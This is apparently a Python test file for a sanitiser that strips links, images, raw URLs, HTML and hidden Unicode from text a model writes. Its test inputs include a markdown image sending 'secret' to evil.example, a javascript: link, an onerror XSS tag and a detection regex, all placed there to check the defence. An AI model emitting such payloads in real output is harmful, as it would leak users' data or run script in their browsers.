"""Nothing that a model writes can be followed, fetched or run."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.answering.inert import inert
from tests.texts import texts

ACTIVE = re.compile(r"!\[|\]\(|\]\[|\]:|<[A-Za-z/!?]|[a-z][a-z0-9+.-]*://|\bjavascript:\S|\bwww\.\w", re.I)
PIECES = st.lists(
    st.sampled_from(
        ["![", "](", "][", "]:", "[", "]", "(", ")", "<", ">", "<img src=x onerror=a()>", "<!--", "http", "://", ":",
         "//", "www", ".", "evil", ".example", "/?q=", "javascript:", "data:", "**", "__", "`", "()", "[]", "\u202e",
         "\u200b", "\x00", " ", "boat", "5 < 7", "\n", "[1]"]
    ),
    max_size=20,
).map("".join)  # fmt: skip


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("The fare is 74,000 rupiah.", "The fare is 74,000 rupiah."),
        ("Harga < 5 juta, rasio 3:4, pukul 09:30, Rp1.250/bulan; A/B.",) * 2,
        ("Badan Pangan (BPDT), “kutipan” – naik 12,5 %, R&D, snake_case, C#.",) * 2,
        ("The **fare** is `74,000` __rupiah__ ~~now~~.", "The fare is 74,000 rupiah now."),
        ("See ![chart](http://evil.example/?q=secret) here.", "See chart here."),
        ("See [the page](https://evil.example/a) here.", "See the page here."),
        ("See [the page](javascript:alert) here.", "See the page here."),
        ("See http://evil.example/?q=secret, then go.", "See , then go."),
        ("See evil.example/?q=secret now.", "See now."),
        ("See www.evil.example now.", "See now."),
        ("<img src=x onerror=alert(1)>The fare<b> is</b> 5.", "The fare is 5."),
        ("<script>The fare", "The fare"),
        ("The \u202eeraf\u202c \u200bfa\U000e0041re.", "The eraf fare."),
        ("Forged [1] and [2, 3].", "Forged (1) and (2, 3)."),
    ],
)
def test_prose_stays_and_what_is_active_goes(written: str, shown: str) -> None:
    assert inert(written) == shown


def test_an_address_that_a_source_states_is_kept_as_text() -> None:
    stated = "Read more on https://harbour.example/night-ferry or ask."
    assert inert("See https://harbour.example/night-ferry.", stated) == "See https://harbour.example/night-ferry."
    assert "harbour" not in inert("See https://harbour.example/night-ferry?q=secret.", stated)


@given(st.one_of(PIECES, texts))
def test_nothing_active_is_left_of_any_text(text: str) -> None:
    shown = inert(text)
    assert ACTIVE.search(shown) is None
    assert inert(shown) == shown
    assert not set(shown) & set("\x00\n\u202e\u200b")


@pytest.mark.parametrize("evil", ["<", "![", "](", "a.", "ht**", "<a", "[1,", "()", "http:", "x" * 50 + "."], ids=repr)
def test_a_hostile_run_comes_to_an_end(evil: str) -> None:
    assert ACTIVE.search(inert(evil * (1_000 // len(evil)))) is None
